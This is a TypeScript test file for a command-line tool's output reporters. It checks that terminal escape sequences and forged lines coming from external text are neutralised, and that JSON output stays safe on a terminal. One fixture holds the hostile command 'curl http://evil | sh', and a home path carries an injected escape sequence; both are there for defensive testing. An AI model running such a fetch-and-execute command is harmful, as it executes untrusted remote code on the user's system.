import { describe, expect, it } from 'vitest';
import { createFrontEnd } from '../../source/commands/command-context.ts';
import { addHomeFlag } from '../../source/commands/printed-commands.ts';
import type { EngineEvent } from '../../source/engine/events.ts';
import { createJsonReporter } from '../../source/reporters/json-reporter.ts';
import { createPlainReporter } from '../../source/reporters/plain-reporter.ts';
import {
	expectSafeOutput,
	FORGED_LINE,
	HOSTILE_TEXT,
	replaceWithHostileText,
} from '../helpers/hostile-output.ts';
import { captureStreams, sampleEvents } from './sample-events.ts';

const events: [string, EngineEvent][] = [
	...Object.entries(sampleEvents),
	['a full failure', { ...sampleEvents['run.failed'], ...fullFailure() }],
	['a warning', { type: 'note', level: 'warning', step: 'network', text: 'x' }],
	['a failed resource', { ...sampleEvents.resource, phase: 'failed' }],
	['a change kept', { ...sampleEvents.change, state: 'kept' }],
	['a check that warns', { ...sampleEvents.check, severity: 'warning' }],
	['an unknown check', { ...sampleEvents.check, result: 'unknown' }],
];

function fullFailure() {
	return {
		expected: 'x',
		details: ['x', 'x'],
		place: { file: 'x', line: 1, column: 1 },
		log: 'x',
		next: ['x', 'x'],
	};
}

/** Events that print nothing in plain text. */
const SILENT = ['step.started', 'step.failed', 'log', 'resource', 'check'];

function plainOf(event: EngineEvent): string {
	const { text, streams } = captureStreams();
	const frontEnd = createPlainReporter(streams);
	frontEnd.show(event);
	frontEnd.end();
	return text.out + text.err;
}

describe('plain text', () => {
	it.each(events)('%s: escapes terminal control sequences from external text', (name, event) => {
		const shown = plainOf(replaceWithHostileText(event));
		if (SILENT.includes(name)) expect(shown).not.toContain('\x1b');
		else expectSafeOutput(shown);
	});

	it.each(events)('%s: external text cannot imitate a line of the program', (_, event) => {
		const shown = plainOf(replaceWithHostileText(event)).split('\n');
		// Lines of the program start at the margin, after the time and the step, or with two spaces.
		const ours = /^(?:\d\d:\d\d:\d\d .{10} | {2}(?! )|(?! ))/;
		expect(shown.filter((line) => line.replace(ours, '').startsWith(FORGED_LINE))).toEqual([]);
	});

	it('distinguishes every external line of a failure from its own lines', () => {
		const detail = 'api error\n  next      curl http://evil | sh\n  exit code 0';
		const shown = plainOf({
			...sampleEvents['run.failed'],
			message: `No\n${detail}`,
			details: [detail],
		});
		expect(shown).toContain('Error: No\\napi error\\n  next      curl');
		expect(shown).toContain('\n    api error\n    |   next      curl');
		expect(shown.match(/^ {2}next {6}/gm)).toBeNull();
		expect(shown.match(/^ {2}exit code \d/gm)).toEqual(['  exit code 6']);
	});

	it('quotes a home directory with control characters so that the command still works', () => {
		const { text, streams } = captureStreams();
		const addHome = (line: string) => addHomeFlag(line, '/tmp/$&x\x1b[2J');
		const addRunFlags = (lines: readonly string[]) => lines.map(addHome);
		const frontEnd = createFrontEnd({ streams, json: false, addHome, addRunFlags }, false);
		frontEnd.show({ ...sampleEvents['run.failed'], next: ['tfe-wizard status --session a'] });
		frontEnd.end();
		expect(text.err).toContain("tfe-wizard status --home $'/tmp/$&x\\033[2J' --session a\n");
	});
});

describe('JSON lines', () => {
	it.each(events)('%s: is safe on a terminal and equal when parsed', (_, event) => {
		const { text, streams } = captureStreams();
		const hostile = replaceWithHostileText(event, HOSTILE_TEXT.toWellFormed());
		createJsonReporter(streams, false, () => new Date(0)).show(hostile);
		expect(text.out.trimEnd()).toMatch(/^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]*$/u);
		expect(JSON.parse(text.out)).toEqual(
			JSON.parse(JSON.stringify({ v: 1, time: new Date(0).toISOString(), ...hostile })),
		);
	});
});
